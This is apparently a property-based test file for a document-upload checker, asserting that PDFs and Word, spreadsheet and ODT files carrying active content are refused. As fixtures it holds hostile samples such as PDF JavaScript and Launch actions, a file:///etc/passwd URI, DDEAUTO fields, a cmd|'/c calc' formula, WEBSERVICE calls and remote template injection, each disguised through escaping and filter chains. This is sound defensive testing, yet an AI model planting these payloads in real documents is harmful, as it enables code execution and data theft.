import { spawnSync } from 'node:child_process'
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { checkFile } from '../../../../../extensions/access/src/rules/file-kinds.ts'
import { SHEET, WORD, aDocx, aPdf, aPdfOf, aRelation, aSheet, anOdt } from '../../../../support/files.ts'
import { ascii85, hexadecimal, inObjects, rowsBySub, rowsByUp, stream } from '../../../../support/pdf.ts'

/** The same variants at each run. */
const RUNS = { seed: 20_261_130, numRuns: 400 }
const isTaken = async (bytes: Buffer) => typeof await checkFile(bytes, 'x') !== 'string'

/** Takes the next of some numbers, so that one list decides of every choice of a variant. */
function chooser(numbers: readonly number[]) {
  let at = 0
  const next = () => numbers[at++ % numbers.length] ?? 0
  return { number: (most: number) => next() % most, of: <T>(list: readonly T[]): T => list[next() % list.length] as T }
}
type Chooser = ReturnType<typeof chooser>
const choices = fc.array(fc.nat({ max: 10_000 }), { minLength: 40, maxLength: 40 })

/** What people write in a dictionary of PDF, with `~` where blanks and remarks may stand, and `/Names` that may be disguised. */
const PDF_ACTIVE = [
  '<<~/S~/JavaScript~/JS~(app.alert\\(1\\))~>>', '<<~/Type~/Action~/S~/Launch~/F~(a.exe)~>>', '<<~/S~/GoToR~/F~<5C5C686F7374>~/D[0~/Fit]~>>', '<<~/S~/SubmitForm~/F<<~/FS~/URL~/F(http://a)~>>>>',
  '<<~/OpenAction<<~/S~/URI~/URI~(https://relais.example/)~>>>>', '<<~/S~/URI~/URI~(\\146ile:///etc/passwd)~>>', '<<~/XFA[(a)~9~0~R]~>>', '<<~/Names<<~/EmbeddedFiles~9~0~R~>>>>', '<<~/EF<<~/F~9~0~R~>>>>', '<<~/Subtype~/RichMedia~>>',
]
const PDF_HARMLESS = ['<<~/S~/GoTo~/D[1~0~R~/Fit]~>>', '<<~/S~/URI~/URI~(https://relais.example/)~>>', '<<~/Title~(JavaScript \\(Launch\\))~>>', '<<~/Type~/Annot~/Subtype~/Link~/F~4~>>', '<<~/A[<<~/O~/Layout~>>]~>>', '[~/JavaScript~(XFA)~null~true~-1.5~]']
const BLANKS = [' ', '\n', '\r\n', '\t', '\0', ' %/S/GoTo\n', '%\r', '\f ']

function writtenPdf(template: string, by: Chooser): string {
  const disguised = template.replaceAll(/\/[A-Za-z]+/g, name => [...name].map((letter, index) => index > 0 && by.number(5) === 0 ? `#${letter.charCodeAt(0).toString(16)}` : letter).join(''))
  return disguised.replaceAll('~', () => by.number(2) === 0 ? ' ' : by.of(BLANKS) + by.of(BLANKS))
}

const CHAINS: readonly { dictionary: string, encode: (bytes: Buffer) => Buffer }[] = [
  { dictionary: '/Filter/FlateDecode', encode: deflateSync }, { dictionary: '/Filter[/Fl]', encode: deflateSync }, { dictionary: '', encode: bytes => bytes },
  { dictionary: '/Filter[/ASCIIHexDecode/FlateDecode]', encode: bytes => hexadecimal(deflateSync(bytes)) }, { dictionary: '/Filter[/A85/Fl]', encode: bytes => ascii85(deflateSync(bytes)) }, { dictionary: '/Filter/A#53CIIHexDecode', encode: hexadecimal },
  { dictionary: '/Filter[/FlateDecode/FlateDecode]', encode: bytes => deflateSync(deflateSync(bytes)) }, { dictionary: '/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 9>>', encode: bytes => deflateSync(rowsByUp(bytes, 9)) },
  { dictionary: '/Filter[/FlateDecode]/DecodeParms[<</Predictor 11/Columns 7/Colors 1>>]', encode: bytes => deflateSync(rowsBySub(bytes, 7)) }, { dictionary: '/Filter[/AHx/A85/Fl]/DecodeParms[null null null]', encode: bytes => hexadecimal(ascii85(deflateSync(bytes))) },
]

/** The value in an object, packed or not, or in a past version. */
function pdfWith(value: string, by: Chooser): Buffer {
  const place = by.number(4)
  if (place === 0) return aPdf(`3 0 obj${by.of(BLANKS)}${value}${by.of(BLANKS)}endobj`)
  if (place === 1) return aPdf(`3 0 obj${by.of(BLANKS)}<</K[[${value}]]>>endobj`)
  if (place === 2) return aPdf(`3 0 obj${by.of(BLANKS)}${value} endobj\n3 0 obj null endobj`)
  return aPdf(inObjects(`6 0 ${value} `, by.of(CHAINS)))
}

describe('variants of a PDF', () => {
  it('that do something by themselves are refused', async () => {
    await fc.assert(fc.asyncProperty(choices, async (numbers) => {
      const by = chooser(numbers)
      const bytes = pdfWith(writtenPdf(by.of(PDF_ACTIVE), by), by)
      if (await isTaken(bytes)) throw new Error(bytes.toString('latin1'))
    }), RUNS)
  })

  it('that are harmless pass', async () => {
    await fc.assert(fc.asyncProperty(choices, async (numbers) => {
      const by = chooser(numbers)
      const bytes = pdfWith(writtenPdf(by.of(PDF_HARMLESS), by), by)
      if (!await isTaken(bytes)) throw new Error(bytes.toString('latin1'))
    }), RUNS)
  })
})

const letters = (text: string, by: Chooser) => [...text].map(letter => by.of([letter, letter, `&#${letter.codePointAt(0)};`, `&#x${'0'.repeat(by.number(9))}${letter.codePointAt(0)?.toString(16)};`])).join('')
const pieces = (text: string, by: Chooser) => [...text].map(letter => by.number(6) === 0 ? `<![CDATA[${letter}]]>` : by.number(8) === 0 ? `<!-- a -->${letters(letter, by)}<?a b?>` : letters(letter, by)).join('')
const prefix = (by: Chooser) => by.of(['w', 'a.b', 'é', '_', 'x-1', 'W'])

/** A field of Word in a header, its code cut in runs. */
function wordField(code: string, by: Chooser): Buffer {
  const p = prefix(by)
  const runs = code.match(/[^]{1,7}/g) ?? []
  const quote = by.of(['"', '\''])
  const marked = (kind: string) => `<${p}:fldChar ${p}:fldCharType ${by.of(['', ' '])}=${by.of(['', '\n'])}${quote}${letters(kind, by)}${quote}/>`
  const cut = by.number(2) === 0 ? [code] : runs
  return aDocx({ name: by.of(['word/header1.xml', 'word/a b.xml', 'x/y.XML']), content: `<${p}:hdr xmlns:${p}="${WORD}">${marked('begin')}${cut.map(run => `<${p}:r><${p}:instrText>${pieces(run, by)}</${p}:instrText></${p}:r>`).join('')}${marked('separate')}<${p}:t>1</${p}:t>${marked('end')}</${p}:hdr>` })
}

const formula = (text: string, by: Chooser) => aSheet({ name: 'xl/worksheets/sheet1.xml', content: `<${prefix(by)}:worksheet xmlns:w="${SHEET}" xmlns:a.b="${SHEET}" xmlns:é="${SHEET}" xmlns:_="${SHEET}" xmlns:x-1="${SHEET}" xmlns:W="${SHEET}"><w:c><w:f>${pieces(text, by)}</w:f></w:c>`.replace(/^<([^:]+):worksheet([^]*)$/, '<$1:worksheet$2</$1:worksheet>') })
const relation = (target: string, mode: string, by: Chooser, kind = 'attachedTemplate') => aDocx({ name: 'word/_rels/settings.xml.rels', content: aRelation(kind, letters(target, by), `${by.of(['', '\n'])}TargetMode ${by.of(['', ' '])}= ${mode === '' ? '"Internal"' : `'${letters(mode, by)}'`}`) })
const picture = (address: string, by: Chooser) => anOdt(`<${by.of(['draw', 'd.x', 'é'])}:image xmlns:d.x="urn:d" xmlns:é="urn:e" xlink:href${by.of(['', ' '])}=${by.of(['', ' '])}"${letters(address, by)}"/>`)

describe('variants of an office document', () => {
  it('that do something by themselves are refused', async () => {
    const kinds = [
      (by: Chooser) => wordField(by.of(['DDEAUTO c:\\\\a.exe "/k"', ' dde excel a b ', 'INCLUDEPICTURE "http://198.51.100.7/x"', '\tINCLUDETEXT "\\\\\\\\host\\\\x"', 'IMPORT a', 'HYPERLINK "file:///c:/x"']), by),
      (by: Chooser) => formula(by.of(['cmd|\'/c calc\'!A1', '_xlfn.WEBSERVICE("http://198.51.100.7")', '_xlfn.IMAGE("http://198.51.100.7")', '\'\\\\host\\[a.xlsx]S\'!A1', '[1]S!A1', 'SUM(1)+RTD("a","b","c")']), by),
      (by: Chooser) => relation(by.of(['http://198.51.100.7/x.dotm', '\\\\host\\x.dotm', 'file://host/x.dotm', 'ftp://host/x']), by.of(['External', 'external', 'EXTERNAL']), by),
      (by: Chooser) => picture(by.of(['http://198.51.100.7/x.png', '//host/x.png', '\\\\host\\x.png', 'file:///etc/passwd', '../x.png', 'vnd.sun.star.script:x']), by),
    ]
    await fc.assert(fc.asyncProperty(choices, async (numbers) => {
      const by = chooser(numbers)
      const bytes = by.of(kinds)(by)
      if (await isTaken(bytes)) throw new Error(JSON.stringify(numbers))
    }), RUNS)
  })

  it('that are harmless pass', async () => {
    const kinds = [
      (by: Chooser) => wordField(by.of(['PAGE', ' MERGEFIELD DDE ', 'HYPERLINK "https://relais.example/"', 'DATE \\@ "dd/MM/yyyy"', '= 1 + 1']), by),
      (by: Chooser) => formula(by.of(['SUM(A1:A3)', 'IF(A1="cmd|x!y",1,2)', '\'Feuil 1\'!A1', 'Tableau1[Montant]*2', 'HYPERLINK("https://relais.example/","a")']), by),
      (by: Chooser) => relation('https://relais.example/', 'External', by, 'hyperlink'),
      (by: Chooser) => relation('theme/theme1.xml', '', by, 'theme'),
      (by: Chooser) => picture(by.of(['Pictures/1.png', './Object 1', 'Pictures/été.png']), by),
    ]
    await fc.assert(fc.asyncProperty(choices, async (numbers) => {
      const by = chooser(numbers)
      const bytes = by.of(kinds)(by)
      if (!await isTaken(bytes)) throw new Error(JSON.stringify([numbers, await checkFile(bytes, 'x')]))
    }), RUNS)
  })
})

/** Another reader of PDF, where there is one: what it finds in each file of a folder. */
const READER = `
import sys, os, pypdf, logging
logging.disable(logging.CRITICAL)
def walk(value, seen, depth=0):
    value = value.get_object() if hasattr(value, 'get_object') else value
    if depth > 40 or id(value) in seen: return False
    seen.add(id(value))
    if isinstance(value, dict):
        if value.get('/S') in ('/JavaScript', '/Launch', '/GoToR', '/SubmitForm') or '/XFA' in value or '/JS' in value: return True
        return any(walk(inner, seen, depth + 1) for inner in value.values())
    return isinstance(value, list) and any(walk(inner, seen, depth + 1) for inner in value)
for name in sorted(os.listdir(sys.argv[1])):
    try:
        reader = pypdf.PdfReader(os.path.join(sys.argv[1], name))
        print(name, walk(reader.trailer, set()))
    except Exception:
        print(name, None)
`
const hasReader = spawnSync('python3', ['-c', 'import pypdf'], { timeout: 20_000 }).status === 0

describe.runIf(hasReader)('another reader', () => {
  it('finds nothing that acts in a PDF that was taken, whatever its wounds', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'relais-pdf-'))
    // What acts stands in the bytes of a picture, where no table leads; each wound may lead there.
    const hidden = '3 0 obj<</S/JavaScript/JS(x)>>endobj\nxref\n0 1\n0000000000 65535 f \n3 1\n0000000200 00000 n \ntrailer<</Root 1 0 R>>\nstartxref\n300\n'
    const pages = '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n3 0 obj<</S/GoTo/D[1 0 R/Fit]>>endobj\n4 0 obj<</X 11>>endobj'
    const sources = [aPdfOf(`${pages}\n${stream(Buffer.from(hidden), { dictionary: '' })}`), aPdfOf(`${pages}\n${inObjects('6 0 <</S/GoTo>> 3 0 <</S/JavaScript/JS(x)>>', { encode: bytes => bytes, dictionary: '' })}`)]
    try {
      let count = 0
      await fc.assert(fc.asyncProperty(fc.constantFrom(...sources), fc.array(fc.tuple(fc.nat(), fc.nat({ max: 255 })), { maxLength: 4 }), async (source, wounds) => {
        const bytes = Buffer.from(source)
        for (const [at, value] of wounds) bytes[at % bytes.length] = value
        const checked = await checkFile(bytes, 'x')
        if (typeof checked !== 'string') writeFileSync(join(folder, `${count++}.pdf`), checked.bytes)
      }), { seed: RUNS.seed, numRuns: 3000 })
      const { stdout } = spawnSync('python3', ['-c', READER, folder], { encoding: 'utf8' })

      expect(readdirSync(folder).length).toBeGreaterThan(100)
      expect(stdout.trim().split('\n').length).toBe(readdirSync(folder).length)
      expect(stdout.split('\n').filter(line => line.endsWith('True'))).toEqual([])
    }
    finally {
      rmSync(folder, { recursive: true })
    }
  })
})
